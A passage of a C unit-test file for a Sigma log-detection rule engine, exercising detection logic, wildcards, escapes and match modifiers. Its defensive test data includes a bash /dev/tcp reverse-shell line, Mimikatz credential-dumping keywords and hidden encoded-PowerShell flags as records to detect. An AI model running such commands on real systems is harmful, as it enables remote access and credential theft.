    YES(rs, "", "src_ip", "10.1.2.3", "logid", "0100032001");
    /* a vendor key that happens to be spelled like a taxonomy field is not the taxonomy field */
    tev t;
    tev_init(&t, "");
    tev_add(&t, "src_ip", "10.1.2.3");
    tev_set(&t, "logid", "0100032001");
    TNO(rs, &t);
    NO(rs, "", "src_ip", "10.1.2.3", "LogID", "0100032001"); /* vendor names are exact */
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-DET                                                                                  */

static void test_det01_detection_and_condition(void **state) {
    (void)state;
    EXPECT_ERROR(HDR "    sel:\n        F: a\n", "missing-condition");
    EXPECT_ERROR("title: A\nlogsource: {product: test}\ndetection: [a, b]\n", "bad-detection");
    hm_ruleset *rs = LOAD(
        HDR "    sel:\n        F: a\n    other:\n        G: b\n    condition: sel and other\n");
    YES(rs, "", "F", "a", "G", "b");
    NO(rs, "", "F", "a");
    hm_ruleset_free(rs);
}

static void test_det02_identifier_names(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    sel-1_a:\n        F: a\n    Sel2:\n        G: b\n"
                              "    condition: sel-1_a and Sel2\n");
    YES(rs, "", "F", "a", "G", "b");
    NO(rs, "", "F", "a", "G", "c");
    const hm_rule_meta *m = hm_ruleset_rule(rs, 0);
    assert_int_equal(m->n_selections, 2);
    assert_string_equal(m->selection_names[0], "sel-1_a");
    assert_string_equal(m->selection_names[1], "Sel2");
    hm_ruleset_free(rs);
    /* identifiers are case-sensitive names */
    EXPECT_ERROR(HDR "    Sel:\n        F: a\n    condition: sel\n", "bad-condition");
}

static void test_det03_map_is_and(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F: a\n        G: b\n        H: c\n"));
    YES(rs, "", "F", "a", "G", "b", "H", "c");
    NO(rs, "", "F", "a", "G", "b");
    NO(rs, "", "F", "a", "G", "x", "H", "c");
    hm_ruleset_free(rs);
}

static void test_det04_list_is_or_all_is_and(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F:\n            - a\n            - b\n"));
    YES(rs, "", "F", "a");
    YES(rs, "", "F", "b");
    NO(rs, "", "F", "c");
    NO(rs, "", "F", "ab");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F|contains|all:\n            - foo\n            - bar\n"));
    YES(rs, "", "F", "xxbarxxfooxx");
    NO(rs, "", "F", "xxbarxx");
    NO(rs, "", "F", "xxfooxx");
    hm_ruleset_free(rs);
}

static void test_det05_list_of_maps_is_or(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        - F: a\n          G: b\n        - H: c\n"));
    YES(rs, "", "F", "a", "G", "b");
    YES(rs, "", "H", "c");
    NO(rs, "", "F", "a", "H", "x");
    NO(rs, "", "G", "b");
    hm_ruleset_free(rs);
}

static void test_det06_keywords(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    keywords:\n        - 'evil.exe'\n        - 'Mimikatz'\n"
                              "    condition: keywords\n");
    YES(rs, "process started: C:\\tmp\\EVIL.EXE by admin");
    YES(rs, "sekurlsa::logonpasswords mimikatz 2.2");
    NO(rs, "nothing to see here");
    NO(rs, "evil exe");
    hm_ruleset_free(rs);
    /* a single scalar keyword */
    rs = LOAD(HDR "    keywords: 'wget http'\n    condition: keywords\n");
    YES(rs, "cmd=wget http://x");
    NO(rs, "cmd=curl http://x");
    hm_ruleset_free(rs);
    /* keyword wildcards */
    rs = LOAD(HDR "    keywords:\n        - 'user * deleted'\n    condition: keywords\n");
    YES(rs, "[x] user bob deleted file");
    NO(rs, "[x] user bob created file");
    hm_ruleset_free(rs);
}

static void test_det07_keyword_modifiers(void **state) {
    (void)state;
    /* '|all': every keyword somewhere in the record (corpus: lnx_susp_jexboss.yml) */
    hm_ruleset *rs = LOAD(HDR "    keywords:\n        '|all':\n            - 'bash -c /bin/bash'\n"
                              "            - '&/dev/tcp/'\n    condition: keywords\n");
    YES(rs, "exec bash -c /bin/bash -i >&/dev/tcp/10.0.0.1/4444 0>&1");
    YES(rs, "X &/DEV/TCP/ then BASH -C /BIN/BASH");
    NO(rs, "exec bash -c /bin/bash -i");
    NO(rs, "&/dev/tcp/1.2.3.4/80");
    hm_ruleset_free(rs);
    rs = LOAD(HDR
              "    keywords:\n        '|contains':\n            - 'alpha'\n            - 'beta'\n"
              "    condition: keywords\n");
    YES(rs, "x beta y");
    NO(rs, "x gamma y");
    hm_ruleset_free(rs);
    rs = LOAD(HDR "    keywords:\n        '|re': 'user=[a-z]+\\d{2} '\n    condition: keywords\n");
    YES(rs, "login user=bob42 ok");
    NO(rs, "login user=bob4 ok");
    hm_ruleset_free(rs);
    rs = LOAD(
        HDR "    keywords:\n        '|cased':\n            - 'Secret'\n    condition: keywords\n");
    YES(rs, "a Secret b");
    NO(rs, "a secret b");
    hm_ruleset_free(rs);
    /* exists needs a field */
    EXPECT_ERROR(HDR "    keywords:\n        '|exists': true\n    condition: keywords\n",
                 "bad-modifier-chain");
}

static void test_det08_keyword_scope_is_raw_record(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    keywords:\n        - 'needle'\n    condition: keywords\n");
    YES(rs, "haystack with a needle in it");
    /* a parsed field holding the word does not count: keywords search the raw record */
    NO(rs, "haystack", "message", "needle", "Payload", "needle");
    hm_ruleset_free(rs);
}

static void test_det09_mixed_lists(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        - F: a\n        - 'raw keyword'\n"));
    YES(rs, "", "F", "a");
    YES(rs, "has a raw keyword here");
    NO(rs, "nothing", "F", "b");
    hm_ruleset_free(rs);
}

static void test_det10_empty_identifier(void **state) {
    (void)state;
    EXPECT_ERROR(HDR "    sel: {}\n    condition: sel\n", "empty-detection");
    EXPECT_ERROR(HDR "    sel: []\n    condition: sel\n", "empty-detection");
    EXPECT_ERROR(HDR "    sel:\n    condition: sel\n", "empty-detection");
    hm_ruleset *rs = LOAD(HDR "    sel: {F: a}\n    condition: sel\n");
    YES(rs, "", "F", "a");
    NO(rs, "", "F", "");
    hm_ruleset_free(rs);
}

static void test_det11_duplicate_key(void **state) {
    (void)state;
    /* the second F: line 10 (HDR is 7 lines), column 9 */
    EXPECT_ERROR_POS(HDR "    sel:\n        F: a\n        F: b\n    condition: sel\n",
                     "duplicate-key", 10, 9);
    /* a search identifier defined twice (line 10 of the file: "    sel:" again) */
    EXPECT_ERROR_POS(HDR "    sel:\n        F: a\n    sel:\n        F: b\n    condition: sel\n",
                     "duplicate-key", 10, 5);
    hm_ruleset *rs = LOAD(SEL("        F|contains|all:\n            - a\n            - b\n"));
    YES(rs, "", "F", "b-a");
    NO(rs, "", "F", "a");
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-VAL                                                                                  */

static void test_val01_case_insensitive_by_default(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    a:\n        F: 'PowerShell.exe'\n"
                              "    b:\n        G|contains: 'EncodedCommand'\n"
                              "    c:\n        H|startswith: 'C:\\Windows\\'\n"
                              "    d:\n        I|endswith: '.PS1'\n"
                              "    condition: a and b and c and d\n");
    YES(rs, "", "F", "POWERSHELL.EXE", "G", "x -encodedcommand y", "H", "c:\\windows\\temp", "I",
        "run.ps1");
    NO(rs, "", "F", "POWERSHELL.EXE.", "G", "x -encodedcommand y", "H", "c:\\windows\\temp", "I",
       "run.ps1");
    hm_ruleset_free(rs);
    /* ASCII folding only (docs/sigma.md): É and é are different */
    rs = LOAD(SEL("        F: 'caf\xc3\xa9'\n"));
    YES(rs, "", "F", "CAF\xc3\xa9");
    NO(rs, "", "F", "CAF\xc3\x89");
    hm_ruleset_free(rs);
}

static void test_val01_cased(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    a:\n        F|cased: 'Admin'\n"
                              "    b:\n        G|contains|cased: 'Token'\n"
                              "    c:\n        H|cased: 'Ad*n?'\n"
                              "    condition: a or b or c\n");
    YES(rs, "", "F", "Admin");
    NO(rs, "", "F", "admin");
    YES(rs, "", "G", "xTokeny");
    NO(rs, "", "G", "xTOKENy");
    YES(rs, "", "H", "Adxxxnz");
    NO(rs, "", "H", "adxxxnz");
    hm_ruleset_free(rs);
}

static void test_val02_exact_vs_substring(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F: 'cmd.exe'\n"));
    YES(rs, "", "F", "cmd.exe");
    YES(rs, "", "F", "CMD.EXE");
    NO(rs, "", "F", "c:\\windows\\cmd.exe");
    NO(rs, "", "F", "cmd.exe ");
    NO(rs, "", "F", "cmd");
    hm_ruleset_free(rs);
}

static void test_val03_wildcards(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F: '*\\\\temp\\\\*.exe'\n"));
    YES(rs, "", "F", "C:\\Users\\x\\TEMP\\a.exe");
    YES(rs, "", "F", "\\temp\\.exe"); /* '*' matches the empty string */
    NO(rs, "", "F", "C:\\Users\\x\\temp\\a.exe.txt");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F: 'file?.txt'\n"));
    YES(rs, "", "F", "file1.txt");
    YES(rs, "", "F", "FILEx.txt");
    NO(rs, "", "F", "file.txt");
    NO(rs, "", "F", "file12.txt");
    hm_ruleset_free(rs);
    /* '?' is one byte: a two-byte UTF-8 character needs '??' (docs/sigma.md) */
    rs = LOAD(SEL("        F: 'caf?'\n"));
    YES(rs, "", "F", "cafe");
    NO(rs, "", "F", "caf\xc3\xa9");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F: 'a*b*c'\n"));
    YES(rs, "", "F", "abc");
    YES(rs, "", "F", "aXXbYYbZZc");
    NO(rs, "", "F", "aXXcYYb");
    hm_ruleset_free(rs);
}

static void test_val04_escapes(void **state) {
    (void)state;
    /* \* literal star */
    hm_ruleset *rs = LOAD(SEL("        F: 'a\\*b'\n"));
    YES(rs, "", "F", "a*b");
    NO(rs, "", "F", "axxb");
    NO(rs, "", "F", "ab");
    hm_ruleset_free(rs);
    /* \? literal question mark */
    rs = LOAD(SEL("        F: 'why\\?'\n"));
    YES(rs, "", "F", "why?");
    NO(rs, "", "F", "whyx");
    hm_ruleset_free(rs);
    /* \\* = one backslash then a real wildcard */
    rs = LOAD(SEL("        F: 'a\\\\*'\n"));
    YES(rs, "", "F", "a\\");
    YES(rs, "", "F", "a\\anything");
    NO(rs, "", "F", "ab");
    NO(rs, "", "F", "a");
    hm_ruleset_free(rs);
    /* \\\* = backslash then literal star */
    rs = LOAD(SEL("        F: 'a\\\\\\*'\n"));
    YES(rs, "", "F", "a\\*");
    NO(rs, "", "F", "a\\x");
    NO(rs, "", "F", "a\\");
    hm_ruleset_free(rs);
    /* a trailing lone backslash is literal */
    rs = LOAD(SEL("        F: 'dir\\'\n"));
    YES(rs, "", "F", "dir\\");
    NO(rs, "", "F", "dir");
    hm_ruleset_free(rs);
    /* backslashes before other characters are literal: Windows paths work unescaped */
    rs = LOAD(SEL("        F: 'C:\\Windows\\x.exe'\n"));
    YES(rs, "", "F", "C:\\Windows\\x.exe");
    YES(rs, "", "F", "c:\\windows\\X.EXE");
    NO(rs, "", "F", "C:Windowsx.exe");
    NO(rs, "", "F", "C:\\\\Windows\\\\x.exe");
    hm_ruleset_free(rs);
    /* \\ before a normal character is one backslash (pySigma); \\\\ is two */
    rs = LOAD(SEL("        F: 'C:\\\\Windows'\n"));
    YES(rs, "", "F", "C:\\Windows");
    NO(rs, "", "F", "C:\\\\Windows");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F: '\\\\\\\\server\\share'\n"));
    YES(rs, "", "F", "\\\\server\\share");
    NO(rs, "", "F", "\\server\\share");
    hm_ruleset_free(rs);
    /* escapes with contains */
    rs = LOAD(SEL("        F|contains: 'x\\*y'\n"));
    YES(rs, "", "F", "--x*y--");
    NO(rs, "", "F", "--xzy--");
    hm_ruleset_free(rs);
}

static void test_val05_special_characters_literal(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F: 'a|b:c %d% e'\n        G: \"it's\"\n"));
    YES(rs, "", "F", "a|b:c %d% e", "G", "it's");
    NO(rs, "", "F", "a|b:c x e", "G", "it's");
    hm_ruleset_free(rs);
}

static void test_val06_numbers(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        EventID: 4688\n"));
    YES(rs, "", "EventID", "4688");
    NO(rs, "", "EventID", "4688.0"); /* equality on numbers compares the text */
    NO(rs, "", "EventID", "14688");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        EventID:\n            - 1\n            - 4624\n"));
    YES(rs, "", "EventID", "1");
    YES(rs, "", "EventID", "4624");
    NO(rs, "", "EventID", "01");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        Ratio: 1.5\n"));
    YES(rs, "", "Ratio", "1.5");
    NO(rs, "", "Ratio", "1.50");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        dst_port|gte: 1024\n"));
    YES(rs, "", "dst_port", "1024"); /* comparisons parse numbers */
    YES(rs, "", "dst_port", "1024.0");
    NO(rs, "", "dst_port", "80");
    hm_ruleset_free(rs);
}

static void test_val07_null(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F: a\n        G: null\n"));
    YES(rs, "", "F", "a");
    NO(rs, "", "F", "a", "G", "");
    NO(rs, "", "F", "a", "G", "x");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F: a\n        G: ~\n"));
    YES(rs, "", "F", "a");
    NO(rs, "", "F", "a", "G", "null");
    hm_ruleset_free(rs);
    /* an empty list behaves like null */
    rs = LOAD(SEL("        F: a\n        G: []\n"));
    YES(rs, "", "F", "a");
    NO(rs, "", "F", "a", "G", "v");
    hm_ruleset_free(rs);
    /* taxonomy field */
    rs = LOAD(SEL("        user: null\n"));
    YES(rs, "");
    NO(rs, "", "user", "bob");
    hm_ruleset_free(rs);
    /* the string 'null' is a string */
    rs = LOAD(SEL("        G: 'null'\n"));
    YES(rs, "", "G", "NULL");
    NO(rs, "");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        G:\n            - a\n            - null\n"), "bad-value");
}

static void test_val08_empty_string(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        G: ''\n"));
    YES(rs, "", "G", "");
    NO(rs, "");
    NO(rs, "", "G", "x");
    NO(rs, "", "G", " ");
    hm_ruleset_free(rs);
}

static void test_val09_booleans(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        Enabled: true\n"));
    YES(rs, "", "Enabled", "true");
    YES(rs, "", "Enabled", "True");
    NO(rs, "", "Enabled", "false");
    NO(rs, "", "Enabled", "1");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        Enabled: false\n"));
    YES(rs, "", "Enabled", "false");
    NO(rs, "", "Enabled", "true");
    hm_ruleset_free(rs);
}

static void test_val10_repeated_vendor_field_first_wins(void **state) {
    (void)state;
    /* the normalized event holds one value per field; decoders flatten arrays into one
     * string (docs/sigma.md). If a vendor key repeats, the first value is the field. */
    hm_ruleset *rs = LOAD(SEL("        Tag|contains: beta\n"));
    YES(rs, "", "Tag", "alpha,beta,gamma");
    NO(rs, "", "Tag", "alpha,gamma");
    tev t;
    tev_init(&t, "");
    tev_add(&t, "Tag", "alpha");
    tev_add(&t, "Tag", "beta");
    TNO(rs, &t);
    tev_init(&t, "");
    tev_add(&t, "Tag", "beta");
    tev_add(&t, "Tag", "alpha");
    TYES(rs, &t);
    hm_ruleset_free(rs);
}

static void test_val11_dotted_names_are_flat_keys(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        properties.riskState: atRisk\n"));
    YES(rs, "", "properties.riskState", "atRisk");
    NO(rs, "", "riskState", "atRisk");
    NO(rs, "", "properties.riskState", "none");
    hm_ruleset_free(rs);
}

static void test_val12_missing_field_and_negation(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(
        HDR "    sel:\n        F: a\n    filter:\n        ParentImage|endswith: '\\explorer.exe'\n"
            "    condition: sel and not filter\n");
    YES(rs, "", "F", "a"); /* filter field absent: filter false, rule fires */
    YES(rs, "", "F", "a", "ParentImage", "C:\\x\\cmd.exe");
    NO(rs, "", "F", "a", "ParentImage", "C:\\Windows\\explorer.exe");
    NO(rs, "", "F", "b");
    hm_ruleset_free(rs);
}

/* ===================================================================================== */
/* S-MOD                                                                                  */

static void test_mod00_unknown_modifier_position(void **state) {
    (void)state;
    /* the key "F|contains|bogus" is on line 9 (HDR is 7 lines, "    sel:" is 8), column 9 */
    EXPECT_ERROR_POS(HDR "    sel:\n        F|contains|bogus: a\n    condition: sel\n",
                     "unknown-modifier", 9, 9);
    EXPECT_ERROR(SEL("        F|Contains: a\n"), "unknown-modifier"); /* modifiers are lowercase */
    hm_ruleset *rs = LOAD(SEL("        F|contains: a\n"));
    YES(rs, "", "F", "bab");
    NO(rs, "", "F", "bbb");
    hm_ruleset_free(rs);
}

static void test_mod00_chain_order(void **state) {
    (void)state;
    /* transformations apply left to right: wide then base64offset encodes UTF-16LE text */
    hm_ruleset *rs = LOAD(SEL("        F|wide|base64offset|contains: 'ping'\n"));
    /* base64("p\0i\0n\0g\0") = "cABpAG4AZwA=" */
    YES(rs, "", "F", "-enc cABpAG4AZwA=");
    NO(rs, "", "F", "-enc cGluZw==");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F|base64offset|contains: 'ping'\n"));
    YES(rs, "", "F", "-enc cGluZw==");
    NO(rs, "", "F", "-enc cABpAG4AZwA=");
    hm_ruleset_free(rs);
}

static void test_mod01_contains(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|contains: 'mimi'\n"));
    YES(rs, "", "F", "mimikatz");
    YES(rs, "", "F", "x MIMI");
    YES(rs, "", "F", "mimi");
    NO(rs, "", "F", "mim");
    NO(rs, "");
    hm_ruleset_free(rs);
    /* an existing edge '*' is not doubled; inner wildcards stay */
    rs = LOAD(SEL("        F|contains:\n            - '*abc'\n            - 'x?z*'\n"));
    YES(rs, "", "F", "--abc--");
    YES(rs, "", "F", "--xyz--");
    NO(rs, "", "F", "--ab--");
    NO(rs, "", "F", "--xz--");
    hm_ruleset_free(rs);
    /* contains '' and '*' = present with any value */
    rs = LOAD(SEL("        F|contains: ''\n"));
    YES(rs, "", "F", "");
    YES(rs, "", "F", "x");
    NO(rs, "");
    hm_ruleset_free(rs);
}

static void test_mod02_startswith(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|startswith: 'C:\\Temp\\'\n"));
    YES(rs, "", "F", "c:\\temp\\a.exe");
    YES(rs, "", "F", "C:\\Temp\\");
    NO(rs, "", "F", "D:\\C:\\Temp\\a.exe");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F|startswith: 'ab*'\n"));
    YES(rs, "", "F", "abzz");
    NO(rs, "", "F", "zab");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F|startswith: 'a?c'\n"));
    YES(rs, "", "F", "abcdef");
    NO(rs, "", "F", "acdef");
    hm_ruleset_free(rs);
}

static void test_mod03_endswith(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|endswith: '\\rundll32.exe'\n"));
    YES(rs, "", "F", "C:\\Windows\\System32\\RUNDLL32.EXE");
    NO(rs, "", "F", "C:\\Windows\\System32\\rundll32.exe.bak");
    NO(rs, "", "F", "rundll32.exe");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F|endswith: '*.ps?'\n"));
    YES(rs, "", "F", "a.psm");
    NO(rs, "", "F", "a.psm1");
    hm_ruleset_free(rs);
}

static void test_mod04_all(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(SEL("        F|contains|all:\n            - ' -nop '\n            - ' -w hidden '\n"
                 "            - ' -enc '\n"));
    YES(rs, "", "F", "powershell -NOP -W HIDDEN -ENC abc");
    NO(rs, "", "F", "powershell -nop -enc abc");
    hm_ruleset_free(rs);
    /* plain values with all: every value must equal the field (only possible if equal) */
    rs = LOAD(SEL("        F|all:\n            - 'abc'\n            - 'ABC'\n"));
    YES(rs, "", "F", "abc");
    NO(rs, "", "F", "abd");
    hm_ruleset_free(rs);
    rs = LOAD_WARN(SEL("        F|contains|all:\n            - 'x'\n"), "all-single-value");
    YES(rs, "", "F", "axb");
    NO(rs, "", "F", "ab");
    hm_ruleset_free(rs);
}

static void test_mod05_exists(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|exists: true\n"));
    YES(rs, "", "F", "x");
    YES(rs, "", "F", ""); /* present and empty counts as present */
    NO(rs, "");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        user|exists: false\n"));
    YES(rs, "");
    NO(rs, "", "user", "");
    NO(rs, "", "user", "bob");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        F|exists: 'true'\n"), "bad-value"); /* must be a boolean */
    EXPECT_ERROR(SEL("        F|exists: maybe\n"), "bad-value");
    EXPECT_ERROR(SEL("        F|contains|exists: true\n"), "bad-modifier-chain");
    EXPECT_ERROR(SEL("        F|exists|cased: true\n"), "bad-modifier-chain");
}

static void test_mod06_cased(void **state) {
    (void)state;
    hm_ruleset *rs =
        LOAD(SEL("        F|startswith|cased: 'HKLM\\'\n        G|endswith|cased: 'X'\n"));
    YES(rs, "", "F", "HKLM\\Software", "G", "aX");
    NO(rs, "", "F", "hklm\\Software", "G", "aX");
    NO(rs, "", "F", "HKLM\\Software", "G", "ax");
    hm_ruleset_free(rs);
}

static void test_mod07_neq(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F: a\n        G|neq: admin\n"));
    YES(rs, "", "F", "a", "G", "guest");
    NO(rs, "", "F", "a", "G", "admin");
    NO(rs, "", "F", "a", "G", "ADMIN"); /* same case rules as equality */
    YES(rs, "", "F", "a");              /* absent field: not equal (docs/sigma.md) */
    hm_ruleset_free(rs);
    /* a list means none of the values */
    rs = LOAD(SEL("        G|neq:\n            - a\n            - b\n"));
    YES(rs, "", "G", "c");
    NO(rs, "", "G", "a");
    NO(rs, "", "G", "b");
    hm_ruleset_free(rs);
    /* neq null: the field is present (any value, also empty) */
    rs = LOAD(SEL("        G|neq: null\n"));
    YES(rs, "", "G", "");
    YES(rs, "", "G", "x");
    NO(rs, "");
    hm_ruleset_free(rs);
    /* numeric neq (text comparison, like equality) */
    rs = LOAD(SEL("        dst_port|neq: 443\n"));
    YES(rs, "", "dst_port", "80");
    NO(rs, "", "dst_port", "443");
    hm_ruleset_free(rs);
}

static void test_mod08_windash(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        CommandLine|contains|windash: ' -f '\n"));
    YES(rs, "", "CommandLine", "tool.exe -f x");
    YES(rs, "", "CommandLine", "tool.exe /f x");
    YES(rs, "", "CommandLine",
        "tool.exe \xe2\x80\x93"
        "f x"); /* en dash */
    YES(rs, "", "CommandLine",
        "tool.exe \xe2\x80\x94"
        "f x"); /* em dash */
    YES(rs, "", "CommandLine",
        "tool.exe \xe2\x80\x95"
        "f x"); /* horizontal bar */
    NO(rs, "", "CommandLine", "tool.exe +f x");
    NO(rs, "", "CommandLine", "tool.exe \\f x");
    NO(rs, "", "CommandLine", "tool.exe -g x");
    hm_ruleset_free(rs);
    /* inner dashes of -param-name stay dashes */
    rs = LOAD(SEL("        CommandLine|contains|windash: '-param-name'\n"));
    YES(rs, "", "CommandLine", "x /param-name y");
    YES(rs, "", "CommandLine", "x -param-name y");
    NO(rs, "", "CommandLine", "x /param/name y");
    NO(rs, "", "CommandLine", "x -param\xe2\x80\x93name y");
    hm_ruleset_free(rs);
    /* several flags vary independently (pySigma expands every combination) */
    rs = LOAD(SEL("        CommandLine|contains|windash: ' -s -i cmd'\n"));
    YES(rs, "", "CommandLine", "psexec -s -i cmd");
    YES(rs, "", "CommandLine", "psexec /s /i cmd");
    YES(rs, "", "CommandLine", "psexec /s -i cmd");
    YES(rs, "", "CommandLine", "psexec -s \xe2\x80\x94i cmd");
    NO(rs, "", "CommandLine", "psexec -s cmd");
    hm_ruleset_free(rs);
    /* a dash before a wildcard does not start a flag (pySigma rewrites literal runs only) */
    rs = LOAD(SEL("        CommandLine|contains|windash: ' -*'\n"));
    YES(rs, "", "CommandLine", "x -abc");
    NO(rs, "", "CommandLine", "x /abc");
    hm_ruleset_free(rs);
    /* a dash after a wildcard does */
    rs = LOAD(SEL("        CommandLine|windash: '*-abc'\n"));
    YES(rs, "", "CommandLine", "x /abc");
    NO(rs, "", "CommandLine", "x+abc");
    hm_ruleset_free(rs);
    /* more than 4096 variants is an error, not a silent truncation */
    EXPECT_ERROR(SEL("        CommandLine|contains|windash: ' -a -b -c -d -e -f'\n"),
                 "too-many-variants");
    /* endswith|windash */
    rs = LOAD(SEL("        CommandLine|endswith|windash: ' -quiet'\n"));
    YES(rs, "", "CommandLine", "setup.exe /quiet");
    NO(rs, "", "CommandLine", "setup.exe /quiet now");
    hm_ruleset_free(rs);
}

static void test_mod09_regex(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|re: 'evil\\d{2,3}\\.exe'\n"));
    YES(rs, "", "F", "C:\\evil42.exe now"); /* unanchored search */
    NO(rs, "", "F", "C:\\evil4.exe");
    NO(rs, "", "F", "C:\\EVIL42.EXE"); /* case-sensitive by default */
    hm_ruleset_free(rs);
    /* corpus constructs: \w \s (?: (?i) lazy quantifiers \b anchors */
    rs = LOAD(HDR "    a:\n        A|re: '^\\w+\\s+(?:-|/)e(?:nc|ncodedcommand)?\\s'\n"
                  "    b:\n        B|re: '(?i)invoke-(?:expression|webrequest)'\n"
                  "    c:\n        C|re: 'start.*?end$'\n"
                  "    d:\n        D|re: '\\bnet\\b\\s+user'\n"
                  "    condition: 1 of them\n");
    YES(rs, "", "A", "powershell -enc AAA");
    YES(rs, "", "A", "powershell  /encodedcommand AAA");
    NO(rs, "", "A", " powershell -enc AAA"); /* ^ anchors at the start */
    YES(rs, "", "B", "x INVOKE-EXPRESSION y");
    NO(rs, "", "B", "invoke-command");
    YES(rs, "", "C", "start middle end");
    NO(rs, "", "C", "start middle end!");
    NO(rs, "", "C", "start middle end\n"); /* $ is the end of the value (DOLLAR_ENDONLY) */
    YES(rs, "", "D", "cmd /c net user bob");
    NO(rs, "", "D", "cmd /c dotnet user bob");
    hm_ruleset_free(rs);
    /* a regex Hyperscan cannot take exactly (back-reference) is still evaluated by PCRE2 */
    rs = LOAD(SEL("        F|re: '(ab)\\1'\n"));
    YES(rs, "", "F", "xxababyy");
    NO(rs, "", "F", "xxabyy");
    hm_ruleset_free(rs);
    /* a regex that matches the empty string */
    rs = LOAD(SEL("        F|re: 'x*'\n"));
    YES(rs, "", "F", "");
    YES(rs, "", "F", "abc");
    NO(rs, "");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        F|re: 'unclosed(group'\n"), "bad-regex");
    EXPECT_ERROR(SEL("        F|contains|re: 'x'\n"), "bad-modifier-chain");
}

static void test_mod10_regex_flags(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(HDR "    i:\n        I|re|i: 'hello'\n"
                              "    m:\n        M|re|m: '^second$'\n"
                              "    s:\n        S|re|s: 'a.b'\n"
                              "    condition: i or m or s\n");
    YES(rs, "", "I", "HeLLo");
    NO(rs, "", "I", "help");
    YES(rs, "", "M", "first\nsecond\nthird");
    NO(rs, "", "M", "first second third");
    YES(rs, "", "S", "a\nb");
    NO(rs, "", "S", "a\n\nb");
    hm_ruleset_free(rs);
    /* without the flags */
    rs = LOAD(
        HDR
        "    m:\n        M|re: '^second$'\n    s:\n        S|re: 'a.b'\n    condition: m or s\n");
    NO(rs, "", "M", "first\nsecond\nthird");
    NO(rs, "", "S", "a\nb");
    YES(rs, "", "S", "axb");
    hm_ruleset_free(rs);
    /* long spellings */
    rs = LOAD(SEL("        F|re|ignorecase|multiline|dotall: '^x.y$'\n"));
    YES(rs, "", "F", "a\nX\nY");
    NO(rs, "", "F", "a\nX\n\nY");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        F|i: 'x'\n"), "bad-modifier-chain");
    EXPECT_ERROR(SEL("        F|contains|i: 'x'\n"), "bad-modifier-chain");
}

static void test_mod11_base64(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|base64|contains: 'http://'\n"));
    /* base64("http://") = "aHR0cDovLw==" */
    YES(rs, "", "F", "xx aHR0cDovLw== yy");
    NO(rs, "", "F", "xx aHR0cDovL yy");
    hm_ruleset_free(rs);
    rs = LOAD(SEL("        F|base64: 'abc'\n")); /* whole value */
    YES(rs, "", "F", "YWJj");
    NO(rs, "", "F", "xYWJj");
    hm_ruleset_free(rs);
    EXPECT_ERROR(SEL("        F|base64|contains: 'http*'\n"), "bad-value");
}

static bool has_str_pred(const hm_ruleset *rs, const char *val, size_t n) {
    for (size_t i = 0; i < rs->n_preds; i++)
        if (rs->preds[i].kind == SG_P_STR && rs->preds[i].vlen == n &&
            !memcmp(rs->preds[i].val, val, n))
            return true;
    return false;
}

static void test_mod12_base64offset(void **state) {
    (void)state;
    hm_ruleset *rs = LOAD(SEL("        F|base64offset|contains: 'http://'\n"));
    /* the three pySigma patterns */
    assert_true(has_str_pred(rs, "aHR0cDovL", 9));
    assert_true(has_str_pred(rs, "h0dHA6Ly", 8));
    assert_true(has_str_pred(rs, "odHRwOi8v", 9));
    assert_int_equal(rs->n_preds, 3);
    /* base64 of "GET http://x", "xGET http://x", "xxGET http://x": every offset */
    YES(rs, "", "F", "R0VUIGh0dHA6Ly94");
    YES(rs, "", "F", "eEdFVCBodHRwOi8veA==");
    YES(rs, "", "F", "eHhHRVQgaHR0cDovL3g=");
    NO(rs, "", "F", "R0VUIGh0dHBzOi8veA=="); /* https:// */
    NO(rs, "", "F", "http://");
    hm_ruleset_free(rs);
